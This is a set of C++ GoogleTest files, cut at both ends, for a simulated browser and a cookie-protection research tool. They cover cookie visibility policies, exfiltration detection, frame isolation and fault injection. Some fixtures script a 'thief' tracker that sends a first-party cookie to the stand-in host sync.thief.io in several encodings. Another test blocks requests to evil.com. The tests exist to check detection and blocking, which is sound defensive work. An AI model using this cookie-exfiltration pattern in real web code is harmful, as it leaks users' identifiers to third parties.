    EXPECT_EQ(da.flip, db.flip);
    const auto dc = other.decide(op);
    if (dc.cls != da.cls || dc.cut != da.cut || dc.flip != da.flip) {
      any_differs = true;
    }
  }
  EXPECT_TRUE(any_differs);
}

TEST(IoFaultPlanTest, FaultRateBoundaries) {
  IoFaultPlanParams never;
  never.op_fault_rate = 0.0;
  IoFaultPlan never_plan(never);

  IoFaultPlanParams always;
  always.op_fault_rate = 1.0;
  IoFaultPlan always_plan(always);

  for (std::uint64_t op = 1; op < 1000; ++op) {
    EXPECT_FALSE(never_plan.decide(op).active());
    EXPECT_TRUE(always_plan.decide(op).active());
  }
}

TEST(IoFaultPlanTest, OpWindowGatesInjection) {
  IoFaultPlanParams params;
  params.op_fault_rate = 1.0;
  params.min_op = 10;
  params.max_op = 20;
  IoFaultPlan plan(params);

  for (std::uint64_t op = 0; op < 40; ++op) {
    EXPECT_EQ(plan.decide(op).active(), op >= 10 && op < 20)
        << "op " << op;
  }
}

TEST(IoFaultPlanTest, SingleClassWeightDrawsOnlyThatClass) {
  IoFaultPlanParams params;
  params.op_fault_rate = 1.0;
  params.no_space_weight = 1.0;
  params.short_write_weight = 0.0;
  params.fsync_loss_weight = 0.0;
  params.bit_flip_weight = 0.0;
  IoFaultPlan plan(params);

  for (std::uint64_t op = 1; op < 500; ++op) {
    EXPECT_EQ(plan.decide(op).cls, IoFault::kNoSpace);
  }
}

TEST(IoFaultPlanTest, AllZeroWeightsFallBackToBitFlip) {
  IoFaultPlanParams params;
  params.op_fault_rate = 1.0;
  params.no_space_weight = 0.0;
  params.short_write_weight = 0.0;
  params.fsync_loss_weight = 0.0;
  params.bit_flip_weight = 0.0;
  IoFaultPlan plan(params);

  for (std::uint64_t op = 1; op < 500; ++op) {
    const auto decision = plan.decide(op);
    EXPECT_TRUE(decision.active());
    EXPECT_EQ(decision.cls, IoFault::kBitFlip);
  }
}

TEST(IoFaultPlanTest, CrashDecisionsAreTornTails) {
  IoFaultPlan plan((IoFaultPlanParams()));
  const auto first = plan.decide_crash(3);
  EXPECT_EQ(first.cls, IoFault::kTornTail);
  EXPECT_GE(first.cut, 0.0);
  EXPECT_LT(first.cut, 1.0);

  const auto again = plan.decide_crash(3);
  EXPECT_EQ(again.cut, first.cut);
  EXPECT_EQ(again.flip, first.flip);

  bool any_differs = false;
  for (std::uint64_t key = 0; key < 64; ++key) {
    const auto decision = plan.decide_crash(key);
    EXPECT_EQ(decision.cls, IoFault::kTornTail);
    if (decision.cut != first.cut || decision.flip != first.flip) {
      any_differs = true;
    }
  }
  EXPECT_TRUE(any_differs);
}

TEST(IoFaultTaxonomyTest, Names) {
  EXPECT_EQ(io_fault_name(IoFault::kNone), "none");
  EXPECT_EQ(io_fault_name(IoFault::kNoSpace), "no_space");
  EXPECT_EQ(io_fault_name(IoFault::kShortWrite), "short_write");
  EXPECT_EQ(io_fault_name(IoFault::kFsyncLost), "fsync_lost");
  EXPECT_EQ(io_fault_name(IoFault::kTornTail), "torn_tail");
  EXPECT_EQ(io_fault_name(IoFault::kBitFlip), "bit_flip");
}

}  // namespace
}  // namespace cg::fault
