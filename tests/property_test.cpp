// Property-style tests: invariants that must hold across swept parameter
// spaces — the paper's enforcement matrix, encoding-independent detection,
// template/jar round-trips, and crawl determinism.
#include <gtest/gtest.h>

#include "analysis/analyzer.h"
#include "cookieguard/cookieguard.h"
#include "corpus/corpus.h"
#include "crawler/crawler.h"
#include "instrument/recorder.h"
#include "script/interpreter.h"
#include "test_support.h"

namespace cg {
namespace {

using script::Encoding;
using testsupport::TestSite;
using testsupport::context_for_url;

// ---- CookieGuard policy lattice -----------------------------------------
//
// For every (reader, policy) combination, is a cookie created by
// facebook.net on shop.example visible?
struct PolicyCase {
  const char* reader_url;
  bool entity_grouping;
  bool site_owner_access;
  bool expect_visible;
};

class PolicyLatticeTest : public ::testing::TestWithParam<PolicyCase> {};

TEST_P(PolicyLatticeTest, VisibilityMatchesPolicy) {
  const auto& param = GetParam();
  TestSite site;
  cookieguard::CookieGuardConfig config;
  config.entity_grouping = param.entity_grouping;
  config.site_owner_full_access = param.site_owner_access;
  cookieguard::CookieGuard guard(config);
  site.browser().add_extension(&guard);
  auto page = site.open();

  const auto owner = context_for_url("https://connect.facebook.net/f.js");
  page->run_as(owner, [&](script::PageServices& services) {
    services.document_cookie_write(owner, "_fbp=fb.1.1.868; Path=/");
  });

  const auto reader = context_for_url(param.reader_url);
  std::string seen;
  page->run_as(reader, [&](script::PageServices& services) {
    seen = services.document_cookie_read(reader);
  });
  EXPECT_EQ(seen.find("_fbp=") != std::string::npos, param.expect_visible)
      << param.reader_url;
}

INSTANTIATE_TEST_SUITE_P(
    EnforcementMatrix, PolicyLatticeTest,
    ::testing::Values(
        // The creator always sees its cookie, under every policy.
        PolicyCase{"https://connect.facebook.net/f.js", false, true, true},
        PolicyCase{"https://connect.facebook.net/f.js", true, false, true},
        // An unrelated tracker never does.
        PolicyCase{"https://cdn.tracker.com/t.js", false, true, false},
        PolicyCase{"https://cdn.tracker.com/t.js", true, true, false},
        // The site owner sees it iff the owner policy is on.
        PolicyCase{"https://www.shop.example/app.js", false, true, true},
        PolicyCase{"https://www.shop.example/app.js", false, false, false},
        // A same-entity domain sees it iff grouping is on.
        PolicyCase{"https://static.fbcdn.net/chat.js", true, true, true},
        PolicyCase{"https://static.fbcdn.net/chat.js", false, true, false}));

// ---- encoding-independent exfiltration detection -------------------------
//
// Whatever encoding a tracker uses, the end-to-end pipeline (browser →
// instrumentation → analyzer) confirms the exfiltration.
class EncodingDetectionTest : public ::testing::TestWithParam<Encoding> {};

TEST_P(EncodingDetectionTest, DetectedEndToEnd) {
  const Encoding encoding = GetParam();
  TestSite site({"owner-pixel", "thief"});
  site.catalog().add(testsupport::spec_of(
      "owner-pixel", "https://connect.facebook.net/f.js",
      script::Category::kSocial,
      {script::set_cookie("_fbp", "fb.1.{ts_ms}.{rand:18}", "; Path=/",
                          false)}));
  site.catalog().add(testsupport::spec_of(
      "thief", "https://cdn.thief.io/t.js", script::Category::kAdvertising,
      {script::exfiltrate({"_fbp"}, "sync.thief.io", encoding)}));

  instrument::Recorder recorder;
  instrument::VisitLog log;
  log.rank = 1;
  recorder.set_visit_log(&log);
  site.browser().add_extension(&recorder);
  site.open();

  analysis::Analyzer analyzer(entities::EntityMap::builtin());
  analyzer.ingest(log);
  EXPECT_EQ(analyzer.totals().sites_doc_exfil, 1)
      << "encoding " << script::to_string(encoding);
  const auto top = analyzer.top_exfiltrated(1);
  ASSERT_EQ(top.size(), 1u);
  EXPECT_EQ(top[0].pair.name, "_fbp");
  EXPECT_EQ(top[0].stats->exfiltrator_entities.count("thief.io"), 1u);
}

INSTANTIATE_TEST_SUITE_P(AllEncodings, EncodingDetectionTest,
                         ::testing::Values(Encoding::kRaw, Encoding::kBase64,
                                           Encoding::kMd5, Encoding::kSha1));

// ---- CookieGuard stops every encoding the same way ----------------------

TEST_P(EncodingDetectionTest, BlockedByCookieGuardEndToEnd) {
  const Encoding encoding = GetParam();
  TestSite site({"owner-pixel", "thief"});
  site.catalog().add(testsupport::spec_of(
      "owner-pixel", "https://connect.facebook.net/f.js",
      script::Category::kSocial,
      {script::set_cookie("_fbp", "fb.1.{ts_ms}.{rand:18}", "; Path=/",
                          false)}));
  site.catalog().add(testsupport::spec_of(
      "thief", "https://cdn.thief.io/t.js", script::Category::kAdvertising,
      {script::exfiltrate({"_fbp"}, "sync.thief.io", encoding)}));

  cookieguard::CookieGuard guard;
  instrument::Recorder recorder;
  instrument::VisitLog log;
  log.rank = 1;
  recorder.set_visit_log(&log);
  site.browser().add_extension(&guard);
  site.browser().add_extension(&recorder);
  site.open();

  analysis::Analyzer analyzer(entities::EntityMap::builtin());
  analyzer.ingest(log);
  EXPECT_EQ(analyzer.totals().sites_doc_exfil, 0);
}

// ---- template → Set-Cookie round-trip ------------------------------------
//
// Every cookie value template in the generated catalog must expand to a
// string that survives the Set-Cookie grammar unchanged.
TEST(CatalogProperty, AllValueTemplatesRoundTripThroughSetCookie) {
  corpus::CorpusParams params;
  params.site_count = 150;
  corpus::Corpus corpus(params);
  script::Rng rng(99);
  int checked = 0;

  std::function<void(const std::vector<script::ScriptOp>&)> walk =
      [&](const std::vector<script::ScriptOp>& ops) {
        for (const auto& op : ops) {
          if (op.kind == script::OpKind::kSetCookie ||
              op.kind == script::OpKind::kStoreSetCookie) {
            const auto value = script::expand_template(op.value_template, rng,
                                                       1746748800000);
            const auto parsed = net::parse_set_cookie(
                op.cookie_name + "=" + value + op.attributes);
            ASSERT_TRUE(parsed.has_value()) << op.cookie_name;
            EXPECT_EQ(parsed->name, op.cookie_name);
            EXPECT_EQ(parsed->value, value) << op.cookie_name;
            ++checked;
          }
          walk(op.nested);
        }
      };
  for (const auto& [id, spec] : corpus.catalog().all()) walk(spec.ops);
  EXPECT_GT(checked, 500);
}

// ---- crawl determinism across a site sweep -------------------------------

class DeterminismTest : public ::testing::TestWithParam<int> {
 protected:
  static const corpus::Corpus& corpus() {
    static const corpus::CorpusParams params = [] {
      corpus::CorpusParams p;
      p.site_count = 40;
      return p;
    }();
    static const corpus::Corpus instance(params);
    return instance;
  }
};

TEST_P(DeterminismTest, RepeatedVisitsAreIdentical) {
  crawler::Crawler crawler(corpus());
  crawler::CrawlOptions options;
  const int index = GetParam();
  const auto a = crawler.visit(index, options);
  const auto b = crawler.visit(index, options);

  ASSERT_EQ(a.script_sets.size(), b.script_sets.size());
  for (std::size_t i = 0; i < a.script_sets.size(); ++i) {
    EXPECT_EQ(a.script_sets[i].cookie_name, b.script_sets[i].cookie_name);
    EXPECT_EQ(a.script_sets[i].value, b.script_sets[i].value);
    EXPECT_EQ(a.script_sets[i].time, b.script_sets[i].time);
  }
  ASSERT_EQ(a.requests.size(), b.requests.size());
  for (std::size_t i = 0; i < a.requests.size(); ++i) {
    EXPECT_EQ(a.requests[i].url, b.requests[i].url);
  }
  EXPECT_EQ(a.landing_timings.load_event, b.landing_timings.load_event);
}

INSTANTIATE_TEST_SUITE_P(Sweep, DeterminismTest,
                         ::testing::Values(0, 3, 7, 13, 21, 34));

// ---- analyzer invariants under random logs -------------------------------

TEST(AnalyzerProperty, CountersAreConsistentOnRealCrawl) {
  corpus::CorpusParams params;
  params.site_count = 200;
  corpus::Corpus corpus(params);
  crawler::Crawler crawler(corpus);
  analysis::Analyzer analyzer(corpus.entities());
  crawler::CrawlOptions options;
  crawler.crawl(corpus.size(), options, [&](instrument::VisitLog&& log) {
    analyzer.ingest(log);
  });

  const auto& t = analyzer.totals();
  // Site counters never exceed the analyzed-site count.
  for (const int counter :
       {t.sites_doc_exfil, t.sites_doc_overwrite, t.sites_doc_delete,
        t.sites_store_exfil, t.sites_with_cross_dom_modification}) {
    EXPECT_GE(counter, 0);
    EXPECT_LE(counter, t.sites_complete);
  }
  EXPECT_LE(t.sites_complete, t.sites_crawled);
  // Attribute-change counters never exceed the overwrite count.
  EXPECT_LE(t.overwrite_value_changed, t.cross_overwrites);
  EXPECT_LE(t.overwrite_expires_changed, t.cross_overwrites);
  EXPECT_LE(t.overwrite_path_changed, t.cross_overwrites);
  // Every ranked pair is present in the pair map with non-empty stats.
  for (const auto& row : analyzer.top_exfiltrated(50)) {
    EXPECT_TRUE(row.stats->exfiltrated());
    EXPECT_FALSE(row.pair.name.empty());
  }
  // Per-domain unique-cookie counts are bounded by the global pair count.
  const int total_pairs =
      analyzer.pair_count(cookies::CookieSource::kDocumentCookie) +
      analyzer.pair_count(cookies::CookieSource::kCookieStore);
  for (const auto& [domain, count] : analyzer.top_exfiltrator_domains(50)) {
    EXPECT_LE(count, total_pairs);
  }
  // Attribution accuracy fractions are sane.
  EXPECT_LE(t.attribution_correct + t.attribution_unknown, t.attributed_sets);
}

}  // namespace
}  // namespace cg
