// Tests for the browser core: page loading, cookie APIs through the page,
// script inclusion chains, stack attribution, network behaviour, timings.
#include <gtest/gtest.h>

#include "browser/page.h"
#include "script/interpreter.h"
#include "test_support.h"

namespace cg::browser {
namespace {

using script::Category;
using testsupport::TestSite;
using testsupport::context_for_url;
using testsupport::spec_of;

TEST(NetworkLayerTest, RoutesByHostThenSiteThenDefault) {
  NetworkLayer network;
  network.register_host("api.shop.example", [](const net::HttpRequest&) {
    net::HttpResponse r;
    r.status = 201;
    return r;
  });
  network.register_site("shop.example", [](const net::HttpRequest&) {
    net::HttpResponse r;
    r.status = 202;
    return r;
  });

  net::HttpRequest req;
  req.url = net::Url::must_parse("https://api.shop.example/x");
  EXPECT_EQ(network.dispatch(req).status, 201);
  req.url = net::Url::must_parse("https://www.shop.example/x");
  EXPECT_EQ(network.dispatch(req).status, 202);
  req.url = net::Url::must_parse("https://elsewhere.com/x");
  EXPECT_EQ(network.dispatch(req).status, 200);
}

TEST(PageTest, LoadRunsStaticScriptsAndRecordsTimings) {
  TestSite site({"tracker"});
  site.catalog().add(spec_of(
      "tracker", "https://cdn.tracker.com/t.js", Category::kAdvertising,
      {script::set_cookie("_t", "{hex:16}", "; Path=/", false)}));
  auto page = site.open();
  EXPECT_EQ(site.browser().jar().size(), 1u);
  EXPECT_GT(page->timings().dom_interactive, 0);
  EXPECT_GE(page->timings().dom_content_loaded,
            page->timings().dom_interactive);
  EXPECT_GE(page->timings().load_event, page->timings().dom_content_loaded);
}

TEST(PageTest, GhostWrittenCookieLandsInFirstPartyJar) {
  TestSite site({"tracker"});
  site.catalog().add(spec_of(
      "tracker", "https://cdn.tracker.com/t.js", Category::kAdvertising,
      {script::set_cookie("_t", "{hex:16}", "; Path=/", false)}));
  site.open();
  const auto cookie = site.browser().jar().all().at(0);
  // The jar records the *site's* host — indistinguishable from a genuine
  // first-party cookie (§2.3), which is the entire problem.
  EXPECT_EQ(cookie.domain, "www.shop.example");
  EXPECT_EQ(cookie.name, "_t");
}

TEST(PageTest, FirstPartyUrlTemplateExpandsSite) {
  TestSite site({"fp"});
  site.catalog().add(spec_of(
      "fp", "https://{site}/app.js", Category::kFirstParty,
      {script::set_cookie("sess", "{hex:8}", "; Path=/", false)}));
  auto page = site.open();
  (void)page;
  EXPECT_EQ(site.browser().jar().size(), 1u);
}

TEST(PageTest, DocumentCookieRoundTripThroughPageApi) {
  TestSite site;
  auto page = site.open();
  const auto ctx = context_for_url("https://cdn.tracker.com/t.js");
  page->run_as(ctx, [&](script::PageServices& services) {
    services.document_cookie_write(ctx, "k=v; Path=/");
    EXPECT_EQ(services.document_cookie_read(ctx), "k=v");
  });
}

TEST(PageTest, CookieStoreIsAsynchronous) {
  TestSite site;
  auto page = site.open();
  const auto ctx = context_for_url("https://cdn.shopifycloud.com/perf.js");
  bool resolved = false;
  page->run_as(ctx, [&](script::PageServices& services) {
    services.cookie_store_set(ctx, "keep_alive", "abc123def456");
    services.cookie_store_get_all(
        ctx, [&](std::vector<script::StoreCookie> cookies) {
          resolved = true;
          ASSERT_EQ(cookies.size(), 1u);
          EXPECT_EQ(cookies[0].name, "keep_alive");
        });
  });
  EXPECT_FALSE(resolved);  // promise hasn't resolved yet
  page->loop().run_until_idle();
  EXPECT_TRUE(resolved);
  EXPECT_EQ(site.browser().jar().all().at(0).source,
            cookies::CookieSource::kCookieStore);
}

TEST(PageTest, CookieStoreDeleteRemovesCookie) {
  TestSite site;
  auto page = site.open();
  const auto ctx = context_for_url("https://cdn.x.com/x.js");
  page->run_as(ctx, [&](script::PageServices& services) {
    services.cookie_store_set(ctx, "tmp", "0123456789ab");
    services.cookie_store_delete(ctx, "tmp");
  });
  page->loop().run_until_idle();
  EXPECT_EQ(site.browser().jar().size(), 0u);
}

TEST(PageTest, DynamicInjectionBuildsInclusionChain) {
  TestSite site({"loader"});
  site.catalog().add(spec_of("loader", "https://tagmgr.com/gtm.js",
                             Category::kTagManager,
                             {script::inject("pixel")}));
  site.catalog().add(spec_of(
      "pixel", "https://pixel.net/p.js", Category::kAdvertising,
      {script::set_cookie("_px", "{hex:16}", "; Path=/", false)}));

  // Verify via an observing extension that the pixel was indirect.
  struct Watch : Extension {
    std::string name() const override { return "watch"; }
    void on_script_included(Page&, const script::ExecContext& ctx) override {
      if (ctx.script_id == "pixel") {
        indirect = ctx.inclusion == script::Inclusion::kIndirect;
        chain = ctx.inclusion_chain;
      }
    }
    bool indirect = false;
    std::vector<std::string> chain;
  } watch;
  site.browser().add_extension(&watch);

  site.open();
  EXPECT_TRUE(watch.indirect);
  ASSERT_EQ(watch.chain.size(), 1u);
  EXPECT_EQ(watch.chain[0], "loader");
  EXPECT_EQ(site.browser().jar().size(), 1u);
}

TEST(PageTest, InjectionCycleIsBounded) {
  TestSite site({"a"});
  site.catalog().add(spec_of("a", "https://a.com/a.js",
                             Category::kAdvertising, {script::inject("b")}));
  site.catalog().add(spec_of("b", "https://b.com/b.js",
                             Category::kAdvertising, {script::inject("a")}));
  site.open();  // must terminate
  SUCCEED();
}

TEST(PageTest, StackAttributionSeesNestedScript) {
  TestSite site({"outer"});
  site.catalog().add(spec_of("outer", "https://outer.com/o.js",
                             Category::kTagManager,
                             {script::inject("inner")}));
  site.catalog().add(spec_of(
      "inner", "https://inner.com/i.js", Category::kAdvertising,
      {script::set_cookie("_i", "{hex:8}", "; Path=/", false)}));

  struct Watch : Extension {
    std::string name() const override { return "watch"; }
    void on_script_cookie_change(Page&, const script::ExecContext&,
                                 const webplat::StackTrace& stack,
                                 const cookies::CookieChange&,
                                 cookies::CookieSource) override {
      top = stack.last_external_script_url().value_or("");
      depth = stack.depth();
    }
    std::string top;
    std::size_t depth = 0;
  } watch;
  site.browser().add_extension(&watch);
  site.open();
  EXPECT_EQ(watch.top, "https://inner.com/i.js");
  EXPECT_EQ(watch.depth, 2u);  // outer frame below inner frame
}

TEST(PageTest, AsyncCallbackKeepsSchedulingStackWhenEnabled) {
  TestSite site({"lazy"});
  site.catalog().add(spec_of(
      "lazy", "https://lazy.com/l.js", Category::kAdvertising,
      {script::run_async(
          100, {script::set_cookie("_l", "{hex:8}", "; Path=/", false)})}));

  struct Watch : Extension {
    std::string name() const override { return "watch"; }
    void on_script_cookie_change(Page&, const script::ExecContext&,
                                 const webplat::StackTrace& stack,
                                 const cookies::CookieChange&,
                                 cookies::CookieSource) override {
      attributed = stack.last_external_script_url().value_or("<none>");
    }
    std::string attributed;
  } watch;
  site.browser().add_extension(&watch);
  site.open();
  // Async stack traces enabled by default: the scheduling frame is found.
  EXPECT_EQ(watch.attributed, "https://lazy.com/l.js");
}

TEST(PageTest, AsyncCallbackLosesAttributionWhenDisabled) {
  BrowserConfig config;
  config.async_stack_traces = false;
  TestSite site({"lazy"}, config);
  site.catalog().add(spec_of(
      "lazy", "https://lazy.com/l.js", Category::kAdvertising,
      {script::run_async(
          100, {script::set_cookie("_l", "{hex:8}", "; Path=/", false)})}));

  struct Watch : Extension {
    std::string name() const override { return "watch"; }
    void on_script_cookie_change(Page&, const script::ExecContext&,
                                 const webplat::StackTrace& stack,
                                 const cookies::CookieChange&,
                                 cookies::CookieSource) override {
      attributed = stack.last_external_script_url().value_or("<none>");
    }
    std::string attributed = "unset";
  } watch;
  site.browser().add_extension(&watch);
  site.open();
  EXPECT_EQ(watch.attributed, "<none>");  // the §8 blind spot
}

TEST(PageTest, HelperCallbackMisattributesToHelper) {
  TestSite site({"lazy"});
  site.catalog().add(spec_of(
      "lazy", "https://lazy.com/l.js", Category::kAdvertising,
      {script::run_async(
          100, {script::set_cookie("_l", "{hex:8}", "; Path=/", false)},
          "https://cdn.helper.com/jquery.js")}));

  struct Watch : Extension {
    std::string name() const override { return "watch"; }
    void on_script_cookie_change(Page&, const script::ExecContext&,
                                 const webplat::StackTrace& stack,
                                 const cookies::CookieChange&,
                                 cookies::CookieSource) override {
      attributed = stack.last_external_script_url().value_or("<none>");
    }
    std::string attributed;
  } watch;
  site.browser().add_extension(&watch);
  site.open();
  // The helper's frame tops the stack: attribution lands on the helper —
  // the "some edge cases remain unresolved" of §8.
  EXPECT_EQ(watch.attributed, "https://cdn.helper.com/jquery.js");
}

TEST(PageTest, SameSiteSetCookieHeadersEnterJar) {
  TestSite site;
  site.browser().network().register_host(
      "www.shop.example", [](const net::HttpRequest& req) {
        net::HttpResponse res;
        if (req.destination == net::RequestDestination::kDocument) {
          res.headers.add("Set-Cookie", "sid=abc123; Path=/; HttpOnly");
          res.headers.add("Set-Cookie", "pref=dark; Path=/");
        }
        return res;
      });
  site.open();
  EXPECT_EQ(site.browser().jar().size(), 2u);
  EXPECT_TRUE(site.browser().jar().find("sid", "www.shop.example", "/")
                  ->http_only);
}

TEST(PageTest, CrossSiteSetCookieIgnored) {
  TestSite site({"tracker"});
  site.catalog().add(spec_of("tracker", "https://cdn.tracker.com/t.js",
                             Category::kAdvertising,
                             {script::beacon("cdn.tracker.com", "/p")}));
  site.browser().network().register_host(
      "cdn.tracker.com", [](const net::HttpRequest&) {
        net::HttpResponse res;
        res.headers.add("Set-Cookie", "3p=tracker");  // third-party cookie
        return res;
      });
  site.open();
  EXPECT_EQ(site.browser().jar().size(), 0u);  // phased out (§1)
}

TEST(PageTest, SameSiteRequestsCarryCookieHeader) {
  TestSite site;
  std::string seen_cookie_header;
  site.browser().network().register_host(
      "www.shop.example", [&](const net::HttpRequest& req) {
        if (req.destination == net::RequestDestination::kXhr) {
          seen_cookie_header = req.headers.get("Cookie").value_or("");
        }
        net::HttpResponse res;
        if (req.destination == net::RequestDestination::kDocument) {
          res.headers.add("Set-Cookie", "sid=s3cr3t; Path=/");
        }
        return res;
      });
  auto page = site.open();
  const auto ctx = context_for_url("https://www.shop.example/app.js");
  page->run_as(ctx, [&](script::PageServices& services) {
    services.send_request(
        ctx, net::Url::must_parse("https://www.shop.example/api"));
  });
  EXPECT_EQ(seen_cookie_header, "sid=s3cr3t");
}

TEST(PageTest, ExtensionOverheadSlowsPageLoad) {
  struct Slow : Extension {
    std::string name() const override { return "slow"; }
    TimeMillis api_call_overhead_ms() const override { return 50; }
  } slow;

  auto build = [&](bool with_ext) {
    TestSite site({"chatty"});
    site.catalog().add(spec_of(
        "chatty", "https://cdn.chatty.com/c.js", Category::kAnalytics,
        {script::read_cookies(), script::read_cookies(),
         script::read_cookies()}));
    if (with_ext) site.browser().add_extension(&slow);
    auto page = site.open();
    return page->timings().load_event;
  };
  // Identical seed and site: the only difference is interception overhead.
  EXPECT_GT(build(true), build(false));
}

TEST(BrowserTest, VisitStartFiresOncePerBrowser) {
  struct Count : Extension {
    std::string name() const override { return "count"; }
    void on_visit_start(Browser&) override { ++starts; }
    int starts = 0;
  } count;
  TestSite site;
  site.browser().add_extension(&count);
  site.open();
  site.open();  // second navigation, same visit
  EXPECT_EQ(count.starts, 1);
}

TEST(BrowserTest, JarPersistsAcrossNavigations) {
  TestSite site;
  auto page = site.open();
  const auto ctx = context_for_url("https://www.shop.example/app.js");
  page->run_as(ctx, [&](script::PageServices& services) {
    services.document_cookie_write(ctx, "keep=1; Path=/");
  });
  auto page2 = site.open();
  page2->run_as(ctx, [&](script::PageServices& services) {
    EXPECT_EQ(services.document_cookie_read(ctx), "keep=1");
  });
}

}  // namespace
}  // namespace cg::browser

// Appended: SOP subframe isolation (threat model §3, Figure 1).
namespace cg::browser {
namespace {

TEST(FrameIsolationTest, CrossOriginFrameCannotSeeMainJar) {
  testsupport::TestSite site;
  auto page = site.open();
  const auto main_ctx =
      testsupport::context_for_url("https://www.shop.example/app.js");
  page->run_as(main_ctx, [&](script::PageServices& services) {
    services.document_cookie_write(main_ctx, "secret=mainframe123; Path=/");
  });

  auto& frame = page->create_subframe(
      net::Url::must_parse("https://ads.tracker.com/frame.html"));
  const auto frame_ctx =
      testsupport::context_for_url("https://ads.tracker.com/ad.js");
  std::string seen = "unset";
  page->run_in_frame(frame, frame_ctx, [&](script::PageServices& services) {
    seen = services.document_cookie_read(frame_ctx);
  });
  EXPECT_EQ(seen, "");  // SOP: the main frame's jar is unreachable
}

TEST(FrameIsolationTest, CrossOriginFrameCookiesArePartitioned) {
  testsupport::TestSite site;
  auto page = site.open();
  auto& frame = page->create_subframe(
      net::Url::must_parse("https://ads.tracker.com/frame.html"));
  const auto frame_ctx =
      testsupport::context_for_url("https://ads.tracker.com/ad.js");
  page->run_in_frame(frame, frame_ctx, [&](script::PageServices& services) {
    services.document_cookie_write(frame_ctx, "frame_id=abc123; Path=/");
    EXPECT_EQ(services.document_cookie_read(frame_ctx), "frame_id=abc123");
  });
  // The first-party jar never saw it.
  EXPECT_EQ(site.browser().jar().size(), 0u);
}

TEST(FrameIsolationTest, SameOriginFrameSharesMainJar) {
  testsupport::TestSite site;
  auto page = site.open();
  const auto main_ctx =
      testsupport::context_for_url("https://www.shop.example/app.js");
  page->run_as(main_ctx, [&](script::PageServices& services) {
    services.document_cookie_write(main_ctx, "shared=yes; Path=/");
  });
  auto& frame = page->create_subframe(
      net::Url::must_parse("https://www.shop.example/widget.html"));
  std::string seen;
  page->run_in_frame(frame, main_ctx, [&](script::PageServices& services) {
    seen = services.document_cookie_read(main_ctx);
  });
  EXPECT_EQ(seen, "shared=yes");
}

TEST(FrameIsolationTest, FrameDomIsSeparate) {
  testsupport::TestSite site;
  auto page = site.open();
  auto& frame = page->create_subframe(
      net::Url::must_parse("https://ads.tracker.com/frame.html"));
  const auto frame_ctx =
      testsupport::context_for_url("https://ads.tracker.com/ad.js");
  page->run_in_frame(frame, frame_ctx, [&](script::PageServices& services) {
    auto& node = services.main_document().create_element("div", "tracker.com");
    services.main_document().append_child(services.main_document().body(),
                                          node, "tracker.com");
  });
  EXPECT_EQ(frame.document().elements_by_tag("div").size(), 1u);
  EXPECT_TRUE(page->main_frame().document().elements_by_tag("div").empty());
}

TEST(RequestBlockingTest, VetoedRequestNeverReachesNetworkOrObservers) {
  struct Blocker final : Extension {
    std::string name() const override { return "blocker"; }
    bool allow_request(Page&, const net::HttpRequest& request,
                       const script::ExecContext*) override {
      return request.url.site() != "evil.com";
    }
  } blocker;
  struct Watch final : Extension {
    std::string name() const override { return "watch"; }
    void on_request_will_be_sent(Page&, const net::HttpRequest&,
                                 const script::ExecContext*,
                                 const webplat::StackTrace&) override {
      ++requests;
    }
    int requests = 0;
  } watch;
  testsupport::TestSite site;
  site.browser().add_extension(&blocker);
  site.browser().add_extension(&watch);
  auto page = site.open();
  const int before = watch.requests;
  const auto ctx = testsupport::context_for_url("https://cdn.x.com/x.js");
  page->run_as(ctx, [&](script::PageServices& services) {
    services.send_request(ctx, net::Url::must_parse("https://px.evil.com/c"));
    services.send_request(ctx, net::Url::must_parse("https://px.fine.com/c"));
  });
  EXPECT_EQ(watch.requests - before, 1);  // only the allowed one
}

}  // namespace
}  // namespace cg::browser

// Appended: cookieStore.get through the page (async + filtered).
namespace cg::browser {
namespace {

TEST(PageTest, CookieStoreGetResolvesByName) {
  testsupport::TestSite site;
  auto page = site.open();
  const auto ctx =
      testsupport::context_for_url("https://cdn.shopifycloud.com/perf.js");
  std::optional<script::StoreCookie> got;
  bool resolved = false;
  page->run_as(ctx, [&](script::PageServices& services) {
    services.cookie_store_set(ctx, "keep_alive", "abc123def456");
    services.cookie_store_get(ctx, "keep_alive",
                              [&](std::optional<script::StoreCookie> c) {
                                resolved = true;
                                got = std::move(c);
                              });
    services.cookie_store_get(ctx, "missing",
                              [&](std::optional<script::StoreCookie> c) {
                                EXPECT_FALSE(c.has_value());
                              });
  });
  EXPECT_FALSE(resolved);
  page->loop().run_until_idle();
  ASSERT_TRUE(resolved);
  ASSERT_TRUE(got.has_value());
  EXPECT_EQ(got->value, "abc123def456");
}

}  // namespace
}  // namespace cg::browser

// Appended: navigation failure paths (crawl fault layer substrate).
namespace cg::browser {
namespace {

TEST(NavigationTest, DnsFailureYieldsNoPage) {
  testsupport::TestSite site;
  site.browser().dns().inject_failure("www.shop.example",
                                      net::DnsStatus::kNxDomain);
  auto result = site.browser().navigate(
      net::Url::must_parse(testsupport::TestSite::kSiteUrl));
  EXPECT_FALSE(result.ok());
  EXPECT_FALSE(result);
  EXPECT_EQ(result.get(), nullptr);
  EXPECT_EQ(result.failure, fault::FailureClass::kDnsFailure);
}

TEST(NavigationTest, CnameLoopOnSiteHostFailsNavigation) {
  testsupport::TestSite site;
  site.browser().dns().add_cname("www.shop.example", "edge.shop.example");
  site.browser().dns().add_cname("edge.shop.example", "www.shop.example");
  const auto result = site.browser().navigate(
      net::Url::must_parse(testsupport::TestSite::kSiteUrl));
  EXPECT_FALSE(result.ok());
  EXPECT_EQ(result.failure, fault::FailureClass::kDnsFailure);
}

TEST(NavigationTest, ConnectTimeoutYieldsFailureAndBurnsClock) {
  testsupport::TestSite site;
  auto& browser = site.browser();
  browser.network().set_fault_hook([](const net::HttpRequest& request) {
    net::TransportVerdict verdict;
    if (request.destination == net::RequestDestination::kDocument) {
      verdict.error = net::NetError::kConnectionTimeout;
      verdict.latency_ms = 30'000;
    }
    return verdict;
  });
  const TimeMillis before = browser.clock().now();
  const auto result = browser.navigate(
      net::Url::must_parse(testsupport::TestSite::kSiteUrl));
  EXPECT_FALSE(result.ok());
  EXPECT_EQ(result.failure, fault::FailureClass::kConnectTimeout);
  // The connect burned its timeout budget on the simulated clock.
  EXPECT_GE(browser.clock().now() - before, 30'000);
}

TEST(NavigationTest, SuccessfulResultConvertsToUniquePtr) {
  testsupport::TestSite site;
  std::unique_ptr<Page> page = site.browser().navigate(
      net::Url::must_parse(testsupport::TestSite::kSiteUrl));
  ASSERT_NE(page, nullptr);
  EXPECT_EQ(page->url().host(), "www.shop.example");
}

TEST(NavigationTest, ResponseHookMutatesHeadersInFlight) {
  testsupport::TestSite site;
  auto& browser = site.browser();
  browser.network().register_host(
      "www.shop.example", [](const net::HttpRequest&) {
        net::HttpResponse response;
